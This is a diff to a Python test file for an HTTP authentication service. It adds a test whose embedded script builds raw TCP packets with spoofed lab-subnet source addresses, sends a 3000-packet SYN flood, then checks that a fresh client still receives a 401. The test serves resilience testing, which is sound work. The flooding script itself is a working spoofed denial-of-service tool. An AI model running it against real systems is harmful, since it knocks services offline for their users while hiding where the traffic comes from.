@@ -67,7 +67,55 @@ print(json.dumps({"status": data.split(b"\r\n", 1)[0].decode(errors="replace"),
 
 def test_100_idle_connections_do_not_lock_out_a_fresh_client(auth):
     res = py(auth, IDLE_THEN_FRESH, "100")
+    print(f"\n100 idle connections, then a fresh client answered in {res['seconds']} s")
     assert res["status"] == "HTTP/1.1 401 Unauthorized", res
+
+
+SYN_FLOOD_THEN_FRESH = r"""
+import json, os, random, socket, struct, sys, time
+ip, n = sys.argv[1], int(sys.argv[2])
+raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+
+def csum(b):
+    if len(b) % 2:
+        b += b"\0"
+    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
+    while s >> 16:
+        s = (s & 0xFFFF) + (s >> 16)
+    return ~s & 0xFFFF
+
+dst = socket.inet_aton(ip)
+t0 = time.time()
+for i in range(n):
+    # spoofed sources on the lab subnet nobody answers ARP for: each SYN-ACK costs an ARP too
+    src = socket.inet_aton("192.168.56.%d" % random.randint(2, 120))
+    sport, seq = random.randint(1024, 65535), random.getrandbits(32)
+    tcp = struct.pack("!HHIIBBHHH", sport, 8088, seq, 0, 5 << 4, 0x02, 65535, 0, 0)
+    c = csum(src + dst + struct.pack("!BBH", 0, 6, len(tcp)) + tcp)
+    tcp = tcp[:16] + struct.pack("!H", c) + tcp[18:]
+    iph = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, i & 0xFFFF, 0, 64, 6, 0, src, dst)
+    raw.sendto(iph + tcp, (ip, 0))
+flood_s = time.time() - t0
+t = time.time()
+s = socket.create_connection((ip, 8088), timeout=10)
+s.sendall(b"GET /?user=x HTTP/1.1\r\nHost: h\r\nConnection: close\r\n\r\n")
+data = b""
+while True:
+    b = s.recv(4096)
+    if not b:
+        break
+    data += b
+print(json.dumps({"status": data.split(b"\r\n", 1)[0].decode(errors="replace"),
+                  "flood_seconds": round(flood_s, 2), "fresh_client_seconds": round(time.time() - t, 3)}))
+"""
+
+
+def test_syn_flood_from_spoofed_sources_does_not_stop_a_fresh_client(auth):
+    res = py(auth, SYN_FLOOD_THEN_FRESH, "3000")
+    print(f"\nSYN flood: 3000 spoofed SYNs in {res['flood_seconds']} s, "
+          f"then a fresh client answered in {res['fresh_client_seconds']} s")
+    assert res["status"] == "HTTP/1.1 401 Unauthorized", res
+    auth.assert_no_sanitizer_report()
 
 
 PIPELINE_FIN = r"""
